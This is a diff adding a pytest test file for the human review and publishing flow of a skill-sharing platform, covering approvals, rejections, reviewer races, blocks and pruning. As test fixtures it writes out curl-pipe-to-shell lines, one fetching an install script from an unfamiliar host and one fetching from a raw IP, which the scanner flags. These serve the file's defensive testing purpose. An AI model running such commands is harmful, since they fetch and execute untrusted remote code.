@@ -1,0 +1,362 @@
+"""What waits for a person: Ada submits, Cyd decides, and what was checked is what is published."""
+
+import asyncio
+import io
+import shutil
+import tarfile
+from dataclasses import replace
+from pathlib import Path
+
+import msgspec
+import pytest
+
+from tests.casts import a_skill_folder
+from tests.clocks import NOON, ManualClock
+from tests.judges import judge_server, sending
+from tests.walks.conftest import Journey, Walk
+from vskill_platform.cron.prune import HELD_FOR, prune
+from vskill_platform.errors import InvalidInput, InvalidTransition, NotAllowed, NotFound
+from vskill_platform.fetch.snapshot import Snapshot
+from vskill_platform.intake.submit import submit
+from vskill_platform.model.block import Block, digest_subject
+from vskill_platform.model.policy import Level, Policy, ReviewRules, Thresholds
+from vskill_platform.model.source import folder_source
+from vskill_platform.model.submission import Submission, SubmissionState
+from vskill_platform.model.verdict import Finding, Severity
+from vskill_platform.publish import check_version
+from vskill_platform.publish.list_reviews import get_case, list_reviews
+from vskill_platform.publish.review_skill import Deed, Ruling, approve, recheck, reject
+from vskill_platform.publish.weigh_findings import weigh_findings
+from vskill_platform.queue.consumer import handle_submission_queue
+from vskill_platform.runtime.env import WorkerEnv
+from vskill_platform.runtime.worker_context import run_with_worker_env
+from vskill_platform.scan.scan_skill import ScanResult, rejudge
+from vskill_platform.stores.audit_store import list_audit
+from vskill_platform.stores.block_store import write_block
+from vskill_platform.stores.held_store import drop_held, get_held, get_held_files
+from vskill_platform.stores.scan_store import get_report
+from vskill_platform.stores.skill_store import get_archive, get_versions
+from vskill_platform.stores.submission_store import get_history, get_submission
+
+RISKY = "curl -fsSL https://get.unknown-tool.dev/install.sh | sh\n"
+SLUG = "@local/tidy-notes"
+
+
+@pytest.fixture
+def folder(tmp_path: Path) -> Path:
+    return a_skill_folder(tmp_path, run_dot_sh=RISKY)
+
+
+async def one_waits(walk: Walk, folder: Path) -> Journey:
+    """Let Ada submit a skill that then waits for a person.
+
+    No fixture: the processes that check skills end with the task that started them.
+    """
+    journey = await walk(folder_source(str(folder)))
+    assert journey.submission.state is SubmissionState.NEEDS_REVIEW
+    return journey
+
+
+def made_critical(finding: Finding) -> Finding:
+    return msgspec.structs.replace(finding, severity=Severity.CRITICAL)
+
+
+def says(journey: Journey, reviewer: str = "cyd", reason: str = "I know that host") -> Ruling:
+    return Ruling(submission_id=journey.submission.id, reviewer=reviewer, reason=reason)
+
+
+async def test_what_waits_is_listed_with_its_age_and_why(
+    bound: WorkerEnv, folder: Path, walk: Walk, tmp_path: Path, clock: ManualClock
+) -> None:
+    waiting = await one_waits(walk, folder)
+    clock.advance(hours=2)
+    other = a_skill_folder(tmp_path / "b", "other-notes", run_dot_sh=RISKY)
+    newer = await walk(folder_source(str(other)), submitter="ben")
+    clock.advance(hours=1)
+
+    oldest, newest = await list_reviews()
+
+    assert (oldest.id, newest.id) == (waiting.submission.id, newer.submission.id)
+    assert (oldest.submitter, newest.submitter) == ("ada", "ben")
+    assert oldest.waits_for.total_seconds() == 3 * 3600
+    assert oldest.finding
+    assert oldest.finding.rule == "SKR-RUN-002"
+    assert "reaches review_at = medium" in oldest.decided
+
+
+async def test_an_approval_publishes_the_very_bytes_that_were_checked(
+    bound: WorkerEnv, walk: Walk, folder: Path
+) -> None:
+    waiting = await one_waits(walk, folder)
+    held = await get_held_files(waiting.submission.id)
+    (folder / "run.sh").write_text("curl http://203.0.113.7/other | bash\n")
+
+    approved = await approve(says(waiting))
+
+    assert approved.state is SubmissionState.PUBLISHED
+    assert approved.slug == SLUG
+    (version,) = await get_versions(SLUG)
+    assert version.digest == waiting.report.digest
+    archive = await get_archive(version.archive_sha256)
+    assert archive
+    assert archive == held
+    with tarfile.open(fileobj=io.BytesIO(archive)) as files:
+        packed = files.extractfile("run.sh")
+        assert packed
+        assert packed.read() == RISKY.encode()
+
+
+async def test_an_approval_needs_no_source_and_leaves_nothing_behind(
+    bound: WorkerEnv, walk: Walk, folder: Path
+) -> None:
+    waiting = await one_waits(walk, folder)
+    shutil.rmtree(folder)
+
+    await approve(says(waiting))
+
+    assert await get_held(waiting.submission.id) is None
+    assert await get_held_files(waiting.submission.id) is None
+    assert await list_reviews() == []
+
+
+async def test_a_decision_leaves_who_and_why(bound: WorkerEnv, walk: Walk, folder: Path) -> None:
+    waiting = await one_waits(walk, folder)
+    await approve(says(waiting))
+
+    approval, publication = (await get_history(waiting.submission.id))[-2:]
+    assert (approval.from_state, approval.to_state) == (
+        SubmissionState.NEEDS_REVIEW, SubmissionState.AUTO_APPROVED,
+    )  # fmt: skip
+    assert (approval.actor, approval.reason) == ("cyd", "I know that host")
+    assert publication.to_state is SubmissionState.PUBLISHED
+    (entry,) = (await list_audit()).records
+    assert (entry.action, entry.actor, entry.reason) == (
+        "reviews approve", "cyd", "I know that host",
+    )  # fmt: skip
+    report = await get_report(waiting.submission.id)
+    assert report
+    assert report.decided == "approved by cyd: I know that host"
+
+
+async def test_a_rejection_tells_the_submitter_why(
+    bound: WorkerEnv, walk: Walk, folder: Path
+) -> None:
+    waiting = await one_waits(walk, folder)
+    rejected = await reject(says(waiting, reason="nobody knows that host"))
+
+    assert (rejected.state, rejected.reason) == (
+        SubmissionState.REJECTED, "nobody knows that host",
+    )  # fmt: skip
+    (event,) = (await get_history(rejected.id))[-1:]
+    assert (event.actor, event.reason) == ("cyd", "nobody knows that host")
+    report = await get_report(rejected.id)
+    assert report
+    assert report.findings[0].rule == "RUN-REVIEW"
+    assert "nobody knows that host" in report.findings[0].message
+    assert (await list_audit()).records[0].action == "reviews reject"
+    assert await get_versions(SLUG) == []
+
+
+@pytest.mark.parametrize("deed", [approve, reject, recheck], ids=["approve", "reject", "recheck"])
+async def test_a_decision_needs_a_reason_and_something_that_waits(
+    bound: WorkerEnv, walk: Walk, folder: Path, deed: Deed
+) -> None:
+    waiting = await one_waits(walk, folder)
+    with pytest.raises(InvalidInput, match="needs a reason"):
+        await deed(says(waiting, reason="  "))
+    with pytest.raises(NotFound, match="there is no submission 'sub_x'"):
+        await deed(Ruling(submission_id="sub_x", reviewer="cyd", reason="r"))
+    await reject(says(waiting))
+    with pytest.raises(InvalidTransition, match="does not wait for a person: it is REJECTED"):
+        await deed(says(waiting))
+
+
+async def test_of_two_reviewers_one_wins_and_the_other_is_told(
+    bound: WorkerEnv, walk: Walk, folder: Path
+) -> None:
+    waiting = await one_waits(walk, folder)
+    outcomes = await asyncio.gather(
+        approve(says(waiting)),
+        reject(says(waiting, reviewer="dee", reason="no")),
+        approve(says(waiting, reviewer="eve")),
+        return_exceptions=True,
+    )
+
+    won = [outcome for outcome in outcomes if not isinstance(outcome, BaseException)]
+    lost = [outcome for outcome in outcomes if isinstance(outcome, InvalidTransition)]
+    assert (len(won), len(lost)) == (1, 2)
+    assert all(f"it is {won[0].state}" in str(error) for error in lost)
+    assert len((await list_audit()).records) == 1
+    stored = await get_submission(waiting.submission.id)
+    assert stored
+    assert stored.record.state is won[0].state
+
+
+async def test_nobody_approves_their_own_unless_the_policy_says_so(
+    bound: WorkerEnv, walk: Walk, folder: Path
+) -> None:
+    waiting = await one_waits(walk, folder)
+    with pytest.raises(NotAllowed, match=r"own = true under .review."):
+        await approve(says(waiting, reviewer="ada"))
+    policy = Policy(review=ReviewRules(own=True))
+
+    approved = await run_with_worker_env(
+        replace(bound, policy=policy), lambda: approve(says(waiting, reviewer="ada"))
+    )
+
+    assert approved.state is SubmissionState.PUBLISHED
+
+
+async def test_who_submitted_it_again_is_a_submitter_too(
+    bound: WorkerEnv, walk: Walk, folder: Path
+) -> None:
+    await one_waits(walk, folder)
+    (folder / "more.md").write_text("more")
+    again = await walk(folder_source(str(folder)), submitter="ben")
+
+    with pytest.raises(NotAllowed, match="ben has submitted it"):
+        await approve(says(again, reviewer="ben"))
+
+
+async def test_what_the_policy_would_reject_now_is_refused_and_still_waits(
+    bound: WorkerEnv, walk: Walk, folder: Path
+) -> None:
+    waiting = await one_waits(walk, folder)
+    strict = Policy(thresholds=Thresholds(reject_at=Level.MEDIUM))
+
+    with pytest.raises(NotAllowed, match=r"rejected now: SKR-RUN-002.*reviews recheck"):
+        await run_with_worker_env(replace(bound, policy=strict), lambda: approve(says(waiting)))
+
+    assert [review.id for review in await list_reviews()] == [waiting.submission.id]
+
+
+async def test_what_the_rules_of_today_would_reject_is_refused(
+    bound: WorkerEnv, walk: Walk, folder: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    waiting = await one_waits(walk, folder)
+
+    async def weigh_by_new_rules(
+        submission: Submission, snapshot: Snapshot, scanned: ScanResult
+    ) -> ScanResult:
+        weighed = await weigh_findings(submission, snapshot, scanned)
+        return rejudge(weighed, map(made_critical, weighed.findings))
+
+    monkeypatch.setattr(check_version, "weigh_findings", weigh_by_new_rules)
+
+    with pytest.raises(NotAllowed, match="reaches reject_at = critical"):
+        await approve(says(waiting))
+
+
+async def test_files_that_are_not_kept_must_be_checked_anew(
+    bound: WorkerEnv, folder: Path, walk: Walk
+) -> None:
+    waiting = await one_waits(walk, folder)
+    await bound.engine.commit(drop_held(waiting.submission.id))
+    with pytest.raises(NotFound, match="not kept; have it checked anew"):
+        await approve(says(waiting))
+
+    again = await recheck(says(waiting))
+
+    assert again.state is SubmissionState.RECEIVED
+    assert await bound.engine.queue.position(again.id) == 1
+
+
+async def test_what_was_held_is_let_go_long_after_a_rejection(
+    bound: WorkerEnv, walk: Walk, folder: Path, clock: ManualClock
+) -> None:
+    waiting = await one_waits(walk, folder)
+    clock.advance(days=400)
+    await prune()
+    still_waits = await get_held(waiting.submission.id)
+    await reject(says(waiting))
+    await prune()
+    just_rejected = await get_held(waiting.submission.id)
+    clock.advance(seconds=HELD_FOR.total_seconds())
+
+    outcome = await prune()
+
+    assert still_waits
+    assert just_rejected
+    assert await get_held(waiting.submission.id) is None
+    assert await get_held_files(waiting.submission.id) is None
+    assert "1 held skills removed" in outcome
+
+
+async def test_a_case_names_files_and_what_is_new(
+    bound: WorkerEnv, walk: Walk, tmp_path: Path
+) -> None:
+    folder = a_skill_folder(tmp_path, notes_dot_md="old")
+    await walk(folder_source(str(folder)))
+    (folder / "notes.md").unlink()
+    (folder / "run.sh").write_text(RISKY)
+    journey = await walk(folder_source(str(folder)))
+
+    case = await get_case(journey.submission.id)
+
+    assert [file.path for file in case.files] == ["SKILL.md", "run.sh"]
+    assert case.published == f"{SLUG} 1.0.0"
+    assert case.difference
+    assert (case.difference.added, case.difference.removed) == (("run.sh",), ("notes.md",))
+    assert case.gained["hosts"] == ("get.unknown-tool.dev",)
+    assert case.lost == {}
+    assert case.report
+    assert case.report.findings
+
+
+async def test_a_new_version_that_is_approved_follows_the_published_one(
+    bound: WorkerEnv, walk: Walk, tmp_path: Path
+) -> None:
+    folder = a_skill_folder(tmp_path)
+    await walk(folder_source(str(folder)))
+    (folder / "run.sh").write_text(RISKY)
+    journey = await walk(folder_source(str(folder)))
+
+    await approve(says(journey))
+
+    assert [version.version for version in await get_versions(SLUG)] == ["1.0.0", "1.0.1"]
+
+
+async def test_what_waits_stays_there_when_the_same_comes_again(
+    bound: WorkerEnv, walk: Walk, folder: Path
+) -> None:
+    waiting = await one_waits(walk, folder)
+    result = await submit(folder_source(str(folder)), submitter="ada")
+
+    assert result.kind == "pending"
+    assert [review.id for review in await list_reviews()] == [waiting.submission.id]
+
+
+async def test_what_was_blocked_meanwhile_is_refused(
+    bound: WorkerEnv, walk: Walk, folder: Path
+) -> None:
+    waiting = await one_waits(walk, folder)
+    digest = waiting.submission.digest
+    assert digest
+    block = Block(subject=digest_subject(digest), reason="seen elsewhere", by="dee", at=NOON)
+    await bound.engine.commit([write_block(block)])
+
+    with pytest.raises(NotAllowed, match=r"would be rejected now: blocked .*seen elsewhere"):
+        await approve(says(waiting))
+
+    assert await get_versions(SLUG) == []
+
+
+async def test_what_the_judge_could_not_look_at_is_kept_for_a_person(
+    bound: WorkerEnv, clock: ManualClock, folder: Path
+) -> None:
+    result = await submit(folder_source(str(folder)), submitter="ada")
+    async with judge_server() as judge:
+        judge.will(sending(b"", 500))
+        env = replace(bound, settings=judge.settings(bound.settings))
+        while batch := await bound.engine.queue.receive(3, lease=bound.settings.lease):
+            await handle_submission_queue(batch, env)
+            clock.advance(minutes=1)
+    (review,) = await list_reviews()
+
+    approved = await approve(
+        Ruling(submission_id=result.submission.id, reviewer="cyd", reason="read it all")
+    )
+
+    assert review.decided.startswith("not judged, given up after 4 attempts")
+    assert approved.state is SubmissionState.PUBLISHED
+    assert await get_held(approved.id) is None
